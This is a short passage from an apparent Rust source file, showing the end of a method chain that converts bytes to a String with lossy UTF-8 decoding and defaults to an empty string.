            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
            .unwrap_or_default()
    }
}
